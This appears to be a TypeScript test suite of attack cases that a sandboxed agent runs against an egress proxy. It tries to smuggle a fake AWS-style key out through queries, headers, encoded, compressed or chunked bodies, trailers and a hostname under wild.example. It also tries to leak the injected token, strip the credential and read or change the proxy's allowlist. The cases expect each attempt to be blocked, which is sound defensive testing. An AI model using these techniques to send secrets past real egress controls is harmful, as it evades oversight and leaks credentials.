import { gzipSync } from 'node:zlib';
import type { GuestAttack } from '../attack.ts';
import { ALLOWED, get, heardInside, inside, request, statuses, toProxy } from '../guest/proxy.ts';

/** Looks like a key of AWS, and is none. */
const KEY = 'AKIAQ7XKPM2WZL9RTVBN';

const exfiltrated = (how: string, make: () => string): GuestAttack => ({
  name: `carry a key out ${how}`,
  as: 'agent',
  meets: /403 secret-found/,
  run: () => inside(make()),
});

const body = (content: string | Buffer, more = '') => {
  const bytes = Buffer.from(content).toString('latin1');
  const head = `Host: ${ALLOWED}\r\nContent-Length: ${bytes.length}\r\nConnection: close\r\n${more}`;
  return `POST /escaped/${KEY.slice(-4)} HTTP/1.1\r\n${head}\r\n${bytes}`;
};
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Lets upstream send back what egress has added, and looks for the token in it. */
const reflected = (how: string, target: string, more = ''): GuestAttack => ({
  name: `get the injected token back ${how}`,
  as: 'agent',
  meets: /(?:200|302), masked/,
  run: async ({ reversedToken }) => {
    const token = [...reversedToken].reverse().join('');
    const heard = await heardInside(request(target, more));
    const forms = [token, base64(`Bearer ${token}`), base64(token), reversedToken];
    const leaked = forms.some((form) => heard.includes(form));
    const masked = heard.includes('***') ? 'masked' : 'without it';
    return `${statuses(heard)}, ${leaked ? 'with the token' : masked}`;
  },
});

interface Facts {
  credential: string;
  names: string[];
}

async function facts(more: string): Promise<Facts> {
  const heard = await heardInside(request('/facts', more));
  return JSON.parse(/\{.*\}/s.exec(heard.split('\r\n\r\n').slice(1).join(''))?.[0] ?? '{}');
}

/** Whether upstream got the credential that egress injects, and none of these headers. */
const replaced = (name: string, more: string, gone: readonly string[]): GuestAttack => ({
  name,
  as: 'agent',
  meets: /egress’s credential, none of them/,
  run: async ({ credential }) => {
    const arrived = await facts(more);
    const whose = arrived.credential === credential ? 'egress’s credential' : 'another credential';
    const left = gone.filter((header) => arrived.names.includes(header));
    return `${whose}, ${left.length === 0 ? 'none of them' : left.join(' and ')}`;
  },
});

/** Credentials and what must not leave. */
export const SECRETS: readonly GuestAttack[] = [
  exfiltrated('in a query', () => request(`/escaped?key=${KEY}`)),
  exfiltrated('in a path', () => request(`/escaped/${KEY}`)),
  exfiltrated('in a header', () => request('/escaped', `X-Note: ${KEY}\r\n`)),
  exfiltrated('in a body', () => body(`note=${KEY}`)),
  exfiltrated('in a body in base64', () => body(base64(`here it is: ${KEY}, enjoy`))),
  exfiltrated('in a body in hexadecimal', () => body(Buffer.from(`key ${KEY} end`).toString('hex'))),
  exfiltrated('in a compressed body', () => body(gzipSync(`note=${KEY}`), 'Content-Encoding: gzip\r\n')),
  exfiltrated('in a body cut into chunks', () => {
    const chunks = [...`note=${KEY}`].map((byte) => `1\r\n${byte}\r\n`).join('');
    return `POST /escaped HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`;
  }),
  exfiltrated(
    'in a trailer',
    () =>
      `POST /escaped HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: x-note\r\n\r\n1\r\nx\r\n0\r\nX-Note: ${KEY}\r\n\r\n`,
  ),
  exfiltrated('by percent-encoding', () =>
    request(`/escaped?key=${[...KEY].map((byte) => `%${byte.charCodeAt(0).toString(16)}`).join('')}`),
  ),
  {
    name: 'carry a key out in the name of a host',
    as: 'agent',
    meets: /403 secret-found/,
    run: () => get('/', `${KEY}.wild.example`),
  },
  {
    name: 'carry a key out in a body that cannot be read',
    as: 'agent',
    meets: /403 body-unscannable/,
    run: () => inside(body('garbage', 'Content-Encoding: x-unknown\r\n')),
  },
  {
    name: 'send the token that egress holds, as if it were known',
    as: 'agent',
    meets: /403 secret-found/,
    run: ({ reversedToken }) => inside(body(`token=${[...reversedToken].reverse().join('')}`)),
  },
  reflected('in a body', '/echo'),
  reflected('in base64', '/echo-base64'),
  reflected('in a header', '/echo-header'),
  reflected('in a redirect', '/echo-redirect'),
  reflected('a part at a time, by Range', '/echo', 'Range: bytes=0-40\r\n'),
  replaced('replace the credential by an own one', 'Authorization: Bearer mine\r\n', []),
  replaced(
    'send credentials for proxies upstream',
    'Proxy-Authorization: Basic eDp5\r\nProxy-Connection: keep-alive\r\n',
    ['proxy-authorization', 'proxy-connection'],
  ),
  {
    name: 'let Connection name the credential, so that it is dropped',
    as: 'agent',
    meets: /egress’s credential/,
    run: async ({ credential }) => {
      const heard = await heardInside(
        `GET /facts HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close, authorization\r\n\r\n`,
      );
      return heard.includes(credential) ? 'egress’s credential' : `another: ${statuses(heard)}`;
    },
  },
  {
    name: 'read the token from egress’s own account of its routes',
    as: 'agent',
    meets: /200 introspection, with routes, without the token/,
    run: async ({ reversedToken }) => {
      const heard = await toProxy(
        'GET http://_egress.local/allowlist HTTP/1.1\r\nHost: _egress.local\r\nConnection: close\r\n\r\n',
      );
      const routes = heard.includes(ALLOWED) ? 'with routes' : 'without routes';
      const leaked = heard.includes([...reversedToken].reverse().join(''));
      return `${statuses(heard)}, ${routes}, ${leaked ? 'with' : 'without'} the token`;
    },
  },
  {
    name: 'change the routes by egress’s own host',
    as: 'agent',
    meets: /405 introspection/,
    run: async () =>
      statuses(
        await toProxy(
          'POST http://_egress.local/allowlist HTTP/1.1\r\nHost: _egress.local\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}',
        ),
      ),
  },
];
